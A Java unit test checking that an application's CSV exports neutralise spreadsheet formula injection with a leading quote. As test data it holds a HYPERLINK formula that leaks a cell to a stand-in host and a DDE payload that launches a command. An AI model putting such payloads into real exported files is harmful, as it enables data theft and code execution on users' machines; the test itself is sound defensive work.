package pl.miasto4.app.observation;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import pl.miasto4.app.StoreTest;
import pl.miasto4.app.importing.ImportService;
import pl.miasto4.app.indicator.CatalogueService;
import pl.miasto4.app.importing.ImportOptions;

import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 11: exports are safe in Excel. A unit whose name is a formula, stored as it was given, is
 * exported with the formula neutralised (OWASP: a leading single quote) in both CSV dialects over real
 * HTTP, while its negative values stay numbers.
 */
class FormulaExportStoreTest extends StoreTest {
    static final String FORMULA = "=HYPERLINK(\"http://zly.invalid/?wyciek=\"&A1,\"Kliknij\")";

    @Autowired
    CatalogueService catalogue;
    @Autowired
    ImportService imports;

    @Test
    void aFormulaUnitNameIsExportedAsTextAndNegativeNumbersStayNumbers() throws Exception {
        String units = "code,name,name_en,kind,parent_code,aliases,latitude,longitude,valid_from,valid_to\n"
                + "FORMULA-1,\"" + FORMULA.replace("\"", "\"\"") + "\",,gmina,,,,,,\n";
        assertThat(catalogue.loadUnits(new StringReader(units), "units.csv", "test").rejected()).isFalse();
        Path data = Files.createTempFile("formula", ".csv");
        Files.writeString(data, "unit,indicator,period,value,flags,source\n"
                + "FORMULA-1,net_migration_permanent,2019,-3.5,,@SUM(1+1)*cmd|' /C calc'!A0\n"
                + "FORMULA-1,net_migration_permanent,2020,-1200.25,,+48 12 345 67 89\n");
        var report = imports.importFile(data, "formula.csv", new ImportOptions(false, "test", null, null, null, null));
        assertThat(report.rejected()).as(report.problems().toString()).isFalse();
        assertThat(jdbc.sql("SELECT name FROM territorial_unit WHERE code = 'FORMULA-1'").query(String.class).single())
                .as("stored as given").isEqualTo(FORMULA);

        HttpClient http = HttpClient.newHttpClient();
        for (String format : List.of("csv", "csv-excel-pl")) {
            HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(baseUrl()
                    + "/api/observations?format=" + format + "&unit=FORMULA-1")).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).isEqualTo(200);
            String body = r.body().startsWith("\uFEFF") ? r.body().substring(1) : r.body();
            List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(format.equals("csv") ? ',' : ';')
                    .setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(body)).getRecords();
            assertThat(rows).hasSize(2);
            for (CSVRecord row : rows) {
                assertThat(row.get(1)).as(format).isEqualTo("'" + FORMULA);
            }
            assertThat(rows.get(0).get(4)).isEqualTo(format.equals("csv") ? "-3.5" : "-3,5");
            assertThat(rows.get(1).get(4)).isEqualTo(format.equals("csv") ? "-1200.25" : "-1200,25");
            assertThat(rows.get(0).get(6)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
            assertThat(rows.get(1).get(6)).isEqualTo("'+48 12 345 67 89");
            assertThat(body).doesNotContain("\n=").doesNotContain(",=").doesNotContain(";=");
        }
    }
}
